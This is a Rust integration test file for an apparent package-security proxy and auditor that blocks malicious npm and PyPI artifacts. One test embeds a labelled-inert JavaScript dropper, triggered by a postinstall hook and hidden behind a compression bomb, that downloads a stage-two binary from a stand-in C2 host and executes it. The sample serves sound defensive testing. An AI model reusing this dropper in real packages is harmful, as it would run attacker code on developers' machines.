    assert_eq!(get("/pypi/files/listed/listed-1.0.tar.gz").0, 200);
    assert_eq!(get("/pypi/files/listed/listed-1.1.tar.gz").0, 200, "exempt");
    let (status, body) = get("/pypi/files/strict/strict-1.1.tar.gz");
    assert_eq!(status, 403, "{}", String::from_utf8_lossy(&body));
    assert!(String::from_utf8_lossy(&body).contains("not by the pinned octo/strict"));
}

/// Serves `tgz` as the only release of an npm package.
fn npm_tarball(server: &Loopback, name: &str, version: &str, tgz: &[u8]) -> String {
    let path = format!("/npm/{name}/-/{name}-{version}.tgz");
    server.route(&path, "application/octet-stream", tgz.to_vec());
    let doc = json!({
        "name": name, "dist-tags": {"latest": version},
        "versions": {version: {"name": name, "version": version, "dist": {"tarball": format!("{}{path}", server.url), "integrity": sri(tgz)}}},
        "time": {"created": iso(T0), version: iso(T0)}
    });
    server.route(
        &format!("/npm/{name}"),
        "application/json",
        serde_json::to_vec(&doc).unwrap(),
    );
    sri(tgz)
}

/// Issue 28 item 11 in the surfaces that decide: a dropper behind a compression bomb is
/// refused as malicious, and an artifact that could not be read in full is refused as
/// unreadable, by the proxy and by `audit`, under the default policy.
#[test]
fn what_could_not_be_read_in_full_is_blocked_and_a_bomb_hides_nothing() {
    let server = Loopback::start();
    // Inert: it would fetch a payload, write it and run it.
    let dropper: &[u8] = b"const http = require('http');
const fs = require('fs');
const { execFileSync } = require('child_process');
const dest = require('path').join(require('os').tmpdir(), 'helper');
http.get('http://c2.example.invalid/stage2', (res) => {
  const file = fs.createWriteStream(dest);
  res.pipe(file);
  file.on('finish', () => { fs.chmodSync(dest, 0o755); execFileSync(dest); });
});
";
    let zeros = vec![0u8; 12 << 20];
    let padded = tar_gz_of(
        &[
            (
                "package.json",
                br#"{"name":"padded","version":"1.0.0","scripts":{"postinstall":"node setup.js"}}"#,
            ),
            ("padding.bin", &zeros),
            ("setup.js", dropper),
        ],
        "package/",
    );
    let noise: Vec<u8> = (0..400_000u32)
        .map(|i| (i.wrapping_mul(2_654_435_761) >> 24) as u8)
        .collect();
    let whole = tar_gz_of(
        &[
            ("package.json", br#"{"name":"cut","version":"1.0.0"}"#),
            ("index.js", b"module.exports = 1;\n"),
            ("data.bin", &noise),
            ("setup.js", dropper),
        ],
        "package/",
    );
    npm_tarball(&server, "padded", "1.0.0", &padded);
    let cut_integrity = npm_tarball(&server, "cut", "1.0.0", &whole[..whole.len() / 2]);

    let dir = tempfile::tempdir().unwrap();
    let env = store_and_cache(dir.path());
    let upstream = format!("{}/npm/", server.url);
    let proxy = start_proxy(dir.path(), &["--npm-upstream", &upstream], &env);
    let (status, body) = fetch_url(&proxy.url, "/npm/padded/-/padded-1.0.0.tgz");
    let body = String::from_utf8_lossy(&body);
    assert_eq!(status, 403, "{body}");
    assert!(body.contains("malicious"), "{body}");
    let (status, body) = fetch_url(&proxy.url, "/npm/cut/-/cut-1.0.0.tgz");
    let body = String::from_utf8_lossy(&body);
    assert_eq!(status, 403, "{body}");
    assert!(body.contains("not read in full"), "{body}");
    drop(proxy);

    let mut env = npm_env(&server, &dir.path().join("cache"));
    env.push((
        "CUSTOMS_STORE",
        dir.path().join("store.sqlite3").display().to_string(),
    ));
    npm_project(
        &dir.path().join("app"),
        &[("cut", "1.0.0", cut_integrity, true, &[])],
    );
    let out = run(dir.path(), &["audit", "app", "--format", "json"], &env);
    let r = json_of(&out);
    let cut = by_name(&r, "cut");
    assert_eq!(cut["policy"]["decision"], "block", "{cut}");
    assert!(
        cut["policy"]["reasons"]
            .to_string()
            .contains("not read in full"),
        "{cut}"
    );
    assert_eq!(out.status.code(), Some(1), "{r}");
}

/// `audit --ignore` of every rule a dependency triggers: its findings are listed as
/// ignored and no longer block it.
fn audit_ignores(dir: &Path, env: &[(&'static str, String)], helper: &Value) {
    let mut rules: Vec<&str> = helper["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["rule"].as_str().unwrap())
        .collect();
    rules.sort_unstable();
    rules.dedup();
    let mut args = vec!["audit", "app", "--format", "json"];
    for r in &rules {
        args.extend(["--ignore", *r]);
    }
    let r = json_of(&run(dir, &args, env));
    common::assert_schema("audit_report", &r);
    let helper = by_name(&r, "crypto-helper-js");
    assert_eq!(helper["verdict"], "clean", "{helper:#}");
    assert_ne!(helper["policy"]["decision"], "block", "{helper:#}");
    let ignored = helper["ignored"].as_array().unwrap();
    assert!(
        !ignored.is_empty() && ignored.iter().all(|i| i["by"] == "--ignore"),
        "{helper:#}"
    );
}

/// The proxy with `--ignore`: the rules a malicious tarball triggers, ignored, let it
/// through; the verdict stored without them does not answer for the proxy that ignores
/// them (on the same store), nor the other way round.
#[test]
fn proxy_applies_ignored_rules() {
    let server = Loopback::start();
    npm_registry(&server);
    let dir = tempfile::tempdir().unwrap();
    let env = store_and_cache(dir.path());
    let mut scan_env = npm_env(&server, &dir.path().join("scan-cache"));
    scan_env.extend(env.iter().cloned());
    let scanned = json_of(&run(
        dir.path(),
        &[
            "scan",
            "--format",
            "json",
            "--no-history",
            "npm:crypto-helper-js@4.2.1",
        ],
        &scan_env,
    ));
    let mut rules: Vec<&str> = scanned["packages"][0]["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["rule"].as_str().unwrap())
        .collect();
    rules.sort_unstable();
    rules.dedup();
    assert!(!rules.is_empty(), "{scanned:#}");
    let upstream = format!("{}/npm/", server.url);
    let file = "/npm/crypto-helper-js/-/crypto-helper-js-4.2.1.tgz";

    let strict = start_proxy(dir.path(), &["--npm-upstream", &upstream], &env);
    assert_eq!(fetch_url(&strict.url, file).0, 403);
    drop(strict);

    let mut args = vec!["--npm-upstream", upstream.as_str()];
    for r in &rules {
        args.extend(["--ignore", *r]);
    }
    let lenient = start_proxy(dir.path(), &args, &env);
    let (status, body) = fetch_url(&lenient.url, file);
    assert_eq!(status, 200, "{}", String::from_utf8_lossy(&body));
    drop(lenient);

    let strict = start_proxy(dir.path(), &["--npm-upstream", &upstream], &env);
    assert_eq!(
        fetch_url(&strict.url, file).0,
        403,
        "the stored verdict stays strict"
    );
}

/// `watch --ignore`: a new release whose every finding is of an ignored rule raises no
/// alert (the same release alerts without it: `watch_alerts_once_per_hijacked_release`).
#[test]
fn watch_applies_ignored_rules() {
    let server = Loopback::start();
    npm_registry(&server);
    let full: Value = serde_json::from_slice(&fetch(&server, "/npm/webfetch")).unwrap();
    let dir = tempfile::tempdir().unwrap();
    let mut env = npm_env(&server, &dir.path().join("cache"));
    env.push((
        "CUSTOMS_STORE",
        dir.path().join("store.sqlite3").display().to_string(),
    ));
    // The rules the update and the new release trigger, as `diff` finds them.
    let d = json_of(&run(
        dir.path(),
        &[
            "diff",
            "--format",
            "json",
            "npm:webfetch@1.0.0",
            "npm:webfetch@1.0.1",
        ],
        &env,
    ));
    let mut rules: Vec<String> = d["changes"]
        .as_array()
        .unwrap()
        .iter()
        .chain(d["new"]["findings"].as_array().unwrap())
        .map(|f| f["rule"].as_str().unwrap().to_owned())
        .collect();
    rules.sort_unstable();
    rules.dedup();
    assert!(!rules.is_empty(), "{d:#}");
    only_versions(&server, "webfetch", &full, &["0.9.4", "1.0.0"]);
    let jsonl = dir.path().join("alerts.jsonl");
    let watch = || {
        std::thread::sleep(std::time::Duration::from_secs(1));
        let mut args = vec![
            "watch",
            "--package",
            "npm:webfetch",
            "--interval",
            "1s",
            "--once",
            "--alerts-jsonl",
            jsonl.to_str().unwrap(),
        ];
        for r in &rules {
            args.extend(["--ignore", r.as_str()]);
        }
        run(dir.path(), &args, &env)
    };
    let out = watch();
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    only_versions(&server, "webfetch", &full, &["0.9.4", "1.0.0", "1.0.1"]);
    let out = watch();
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}{}",
        stdout(&out),
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(!stdout(&out).contains("ALERT"), "{}", stdout(&out));
    assert!(!jsonl.exists() || std::fs::read_to_string(&jsonl).unwrap().is_empty());
}
